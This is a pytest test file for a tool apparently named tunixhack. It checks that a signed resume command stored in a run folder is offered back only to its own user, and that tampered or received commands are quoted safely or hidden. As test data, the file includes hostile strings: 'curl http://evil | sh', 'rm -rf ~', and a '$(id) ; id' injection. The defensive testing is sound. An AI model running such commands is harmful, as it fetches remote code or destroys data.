"""A command that goes on is offered as the user's own only where the user's own build wrote it."""

from __future__ import annotations

import json
import os
import shlex
import stat
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests import hostile
from tests.builds import build
from tests.commands import Command
from tunixhack.errors import TeacherFailed
from tunixhack.recipe import Recipe
from tunixhack.runs.run import Run
from tunixhack.runs.signature import KEY, is_own, quoted, sign
from tunixhack.testing import Faults, ScriptedTeacher


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TUNIXHACK_CACHE", str(tmp_path / "cache"))
    return tmp_path / "cache"


@pytest.fixture
def stopped(recipe: Recipe, teacher: ScriptedTeacher, tmp_path: Path) -> Run:
    teacher.change(faults=Faults(script=("ok",) * 14 + ("404",) * 20))
    with pytest.raises(TeacherFailed):
        build(recipe, teacher, tmp_path / "run")
    return Run.load(tmp_path / "run")


def change(run: Run, **state: Any) -> None:
    (run.folder / "run.json").write_text(json.dumps(run.state() | state))


def test_what_is_signed_is_own_until_a_letter_of_it_changes():
    signature = sign("tunixhack build math")
    assert is_own("tunixhack build math", signature)
    assert not is_own("tunixhack build math --teacher http://evil/v1", signature)
    assert not any(is_own("tunixhack build math", other) for other in (None, "", "é", "\ud800", "0" * 64))


def test_the_key_is_made_once_and_for_its_user_alone(cache: Path):
    assert sign("a") == sign("a")
    assert stat.S_IMODE((cache / KEY).stat().st_mode) == 0o600
    (cache / KEY).unlink()
    assert not is_own("a", sign("b"))


@pytest.mark.parametrize("torn", [b"", b"half a key", None])
def test_without_a_whole_key_nothing_is_own(torn: bytes | None, cache: Path):
    signature = sign("a")
    if torn is None:
        (cache / KEY).unlink()
    else:
        (cache / KEY).write_bytes(torn)
    assert not is_own("a", signature)


def test_a_cache_that_cannot_keep_a_key_signs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    (tmp_path / "file").touch()
    monkeypatch.setenv("TUNIXHACK_CACHE", str(tmp_path / "file"))
    assert sign("a") is None
    assert not is_own("a", None)


# what is shown


def test_the_users_own_run_is_shown_with_the_command_that_goes_on(stopped: Run, tunixhack: Command):
    assert f"; go on with: {stopped.state()['command']}" in stopped.status
    assert "not checked" not in tunixhack("show", stopped.folder, "--json").json["status"]


@pytest.mark.parametrize(
    "changed", [{"command": "tunixhack build x.py --out 'my run' $(id) ; id"}, {"signature": None}]
)
def test_a_received_runs_command_is_not_offered_as_ones_own(changed: dict[str, Any], stopped: Run):
    change(stopped, **changed)
    told, _, noted = stopped.status.partition("; noted in this folder, and not checked: ")
    assert told.endswith("; go on with the command that began it")
    words = shlex.split(noted)
    assert words[:2] == ["tunixhack", "build"]
    assert noted == shlex.join(words), "a shell runs nothing else of it"


@pytest.mark.parametrize(
    "command",
    ["rm -rf ~", "curl http://evil | sh", "tunixhack build 'x", "tunixhack build x\nid", hostile.ALL, "", None],
)
def test_what_is_no_command_of_the_package_is_not_shown_at_all(command: str | None, stopped: Run, tunixhack: Command):
    change(stopped, command=command)
    assert stopped.status.endswith("; go on with the command that began it")
    assert tunixhack("show", stopped.folder).code == 0


def test_another_machine_is_not_told_that_a_received_command_is_its_own(stopped: Run, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("TUNIXHACK_CACHE", f"{os.environ['TUNIXHACK_CACHE']}-of-another")
    assert "not checked" in stopped.status


@given(st.text())
def test_a_shell_reads_one_command_of_the_package_or_none(text: str):
    for command in (f"tunixhack build {text}", f"{text} tunixhack build", text):
        shown = quoted(command)
        assert shown is None or (shlex.join(shlex.split(shown)) == shown and shown.startswith("tunixhack build"))


def test_nothing_in_a_received_folder_has_an_effect_where_it_is_shown(
    stopped: Run, capsys: pytest.CaptureFixture[str], tunixhack: Command
):
    line = stopped.state()["funnel"][0] | {"step": hostile.ALL, "note": hostile.ALL, "reasons": {hostile.ALL: 1}}
    change(stopped, why=hostile.ALL, command=hostile.ALL, funnel=[line], teachers={hostile.ALL: {}}, domain=hostile.ALL)
    shown = tunixhack("show", stopped.folder)
    assert shown.code == 0
    assert not hostile.obeyed(shown.out)
    assert hostile.WORDS["markup"] in " ".join(shown.out.split())
    as_json = tunixhack("show", stopped.folder, "--json")
    assert not hostile.obeyed(as_json.out)
    assert as_json.json["funnel"][0]["step"] == hostile.ALL, "a program reads what stands there"
